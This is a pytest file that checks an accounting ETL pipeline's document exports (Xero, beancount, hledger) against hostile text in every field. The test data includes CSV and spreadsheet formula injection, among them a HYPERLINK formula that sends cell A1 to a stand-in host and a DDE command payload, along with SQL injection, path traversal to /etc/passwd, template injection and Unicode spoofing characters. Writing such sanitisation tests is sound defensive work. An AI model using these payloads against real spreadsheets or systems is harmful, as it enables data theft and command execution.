"""Hostile names and texts through every document: written as they are and read back, or refused with what and where."""

from __future__ import annotations

import unicodedata
from dataclasses import replace

import pyarrow as pa
import pytest

from etl.errors import TargetError
from etl.targets.documents import DOCUMENTS
from etl.targets.fields import profile_of, text_fields
from etl.targets.text import cleaned
from etl.terms import PayrollPerson
from tests.targets.examples import HEADER, settings
from tests.targets.judges import judged
from tests.targets.test_golden import golden_table

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "|calc", "\t=1", "\uff1d1+1", "=cmd|' /C calc'!A0",
    "tab\there", "line\r\nbreak", "semi;colon", 'a "quote"', "comma, inside", "back\\slash", "nul\0sign",
    "right\u202eto left", "zero\u200bwidth", "\ufeffmark", "no\u00a0break", "Łódź", "地図", "😀", "Cafe\u0301",
    "x" * 5000, "a:b:c", " spaced ", "'; drop table entries; --", "../../etc/passwd", "{{7*7}}", "%0A=1", "~ lead",
]
FIELDS = [(known, column) for known in DOCUMENTS
          for column in dict.fromkeys(field.column for field in text_fields(known.name))]


def with_cell(known, column: str, text: str) -> pa.Table:
    """The golden table with this text in a column of its first row."""
    table = golden_table(known)
    at = table.column_names.index(column)
    cells = [text, *table[column].to_pylist()[1:]]
    return table.set_column(at, table.schema.field(at), pa.array(cells, pa.string()))


def with_each(known, column: str) -> pa.Table:
    """The golden journal once for every text, in documents of its own: one call of a ledger's program for all."""
    parts = []
    for at, text in enumerate(HOSTILE):
        table = with_cell(known, column, text)
        numbers = [number.replace("0042", f"{at:04d}") for number in table["document_number"].to_pylist()]
        place = table.column_names.index("document_number")
        parts.append(table.set_column(place, table.schema.field(place), pa.array(numbers, pa.string())))
    return pa.concat_tables(parts)


def knowing(text: str):
    """The company whose lists hold the text everywhere."""
    name = unicodedata.normalize("NFC", text)
    guid = "00000000-0000-4000-8000-000000000999"
    lists = {one: {**names, name: guid, text: guid} for one, names in HEADER.target_lists.items()}
    tasks = lists["xero.task"]
    tasks |= {f"{text}/{item}": guid for item in ("Engineering", "Design")}
    tasks |= {f"{job}/{text}": guid for job in HEADER.target_lists["xero.project"]}
    return replace(HEADER, target_lists=lists, payroll_people=HEADER.payroll_people | {
        text: PayrollPerson("000999", "Abel", "Ann")})


def files_or_refusal(known, table: pa.Table, header) -> list:
    """What is written with its way back; nothing where it is refused, with the place and the next action."""
    try:
        return [*known.render(table, header, settings()), *known.correct(table, header, settings())]
    except TargetError as error:
        if not (error.where and error.fix):
            raise AssertionError(f"{error} says not where, or not what to do") from error
        return []


def told(known, table: pa.Table, header) -> str:
    """Every text that the reader of each file gives back; empty where nothing is written."""
    files = files_or_refusal(known, table, header)
    return "\n".join(value for file in files for record in judged(file) for value in values(record))


def values(record) -> list[str]:
    """Every text in a record, however deep."""
    if isinstance(record, dict):
        return [text for value in record.values() for text in values(value)]
    if isinstance(record, list):
        return [text for value in record for text in values(value)]
    return [str(record)]


@pytest.mark.parametrize(("known", "column"), FIELDS, ids=lambda one: getattr(one, "name", one))
def test_hostile_text_is_read_back_or_refused(known, column):
    field = next(field for field in text_fields(known.name) if field.column == column)
    is_ledger = known.name.partition(".")[0] in ("beancount", "hledger")
    is_free = field.kind == "text" and not (is_ledger and column == "customer_job")   # a job is part of the account
    together = is_ledger and is_free
    shown = told(known, with_each(known, column), HEADER) if together else ""
    for text in HOSTILE:
        if not together:
            shown = told(known, with_cell(known, column, text), knowing(text))
        assert shown or not is_free, f"free text is cleaned, never refused: {text!r}"
        if is_free:
            whole = cleaned(text, profile_of(known.name))[0]
            assert whole[:min(field.limit or 5000, 5000) - len(" [0042-T-001]")].strip() in shown, text


@pytest.mark.parametrize(("known", "column"), FIELDS, ids=lambda one: getattr(one, "name", one))
def test_the_fields_can_be_written(known, column):
    """What is refused above is refused for its text, not for the test's company."""
    table = golden_table(known)
    assert files_or_refusal(known, with_cell(known, column, table[column][0].as_py()), HEADER)


def test_every_new_document_is_here():
    assert {known.name for known, _ in FIELDS} == {known.name for known in DOCUMENTS}
